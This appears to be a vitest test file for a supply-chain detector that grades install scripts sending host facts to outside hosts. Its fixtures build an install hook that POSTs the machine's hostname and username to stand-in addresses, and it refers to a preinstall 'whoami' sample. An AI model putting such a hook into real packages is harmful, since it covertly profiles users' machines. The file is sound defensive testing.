import { describe, expect, it } from 'vitest'
import { findingsIn, packageOf, samplesOf, verdictOf } from '../../test/samples.ts'
import { weigh } from '../core/weigh.ts'
import { profilesHost } from './profiles-host.ts'

const sample = (kind: 'bad' | 'benign', name: string): ReturnType<typeof packageOf> => {
  const found = samplesOf('profiles-host', kind).find(({ file }) => file === `${name}.json`)
  if (!found) throw new Error(`no sample ${name}`)
  return packageOf(found.sample)
}

const severity = (url: string, facts: string, more: object = {}): string | undefined => findingsIn(packageOf({ says: '', ecosystem: 'npm', files: {
  'package.json': JSON.stringify({ scripts: { install: 'node i.js' }, ...more }), 'i.js': `const os = require('os'); fetch('${url}', { method: 'POST', body: ${facts} })` } }), profilesHost)[0]?.severity
const ONE = 'os.hostname()'
const SEVERAL = 'os.hostname() + os.userInfo().username'

describe('profiles-host', () => {
  it.each([
    ['case-c-host-facts', 'critical'], ['dns-query', 'critical'], ['go-init', 'critical'], ['hook-foreign-one', 'high'], ['import-foreign', 'critical'],
    ['node-env', 'critical'], ['pypi-import', 'critical'], ['shell-whoami', 'critical'],
  ] as const)('weighs %s as %s', (name, severity) => {
    expect(findingsIn(sample('bad', name), profilesHost)[0]).toMatchObject({ behaviour: 'host-profiling', severity })
    if (severity === 'critical') expect(verdictOf(sample('bad', name)).level).toBe('malicious')
  })

  it.each(samplesOf('profiles-host', 'benign').map(({ file }) => file.replace('.json', '')))('holds nothing against %s', (name) => {
    const alone = { detector: profilesHost.id, version: profilesHost.version, status: 'ok', findings: findingsIn(sample('benign', name), profilesHost) } as const
    expect(weigh('sha256:00', [alone], [], '').level).toBe('clean')
  })

  it.each([
    ['a stranger', 'https://stats.other.example/', {}, 'high', 'critical'],
    ['an address', 'http://203.0.113.5/', {}, 'critical', 'critical'],
    ['the declared home', 'https://stats.tool.example/', { homepage: 'https://tool.example' }, 'medium', 'medium'],
    ['the registry', 'https://registry.example/', {}, 'low', 'low'],
    ['this machine', 'http://localhost:3000/', {}, 'info', 'info'],
  ])('weighs what a hook tells %s', (_to, url, more, one, several) => {
    expect(severity(url, ONE, more)).toBe(one)
    expect(severity(url, SEVERAL, more)).toBe(several)
  })

  it('says what is told to whom', () => {
    expect(findingsIn(sample('bad', 'shell-whoami'), profilesHost)[0]?.title).toBe("the preinstall script sends the machine's host name, user to 203.0.113.8")
  })
})
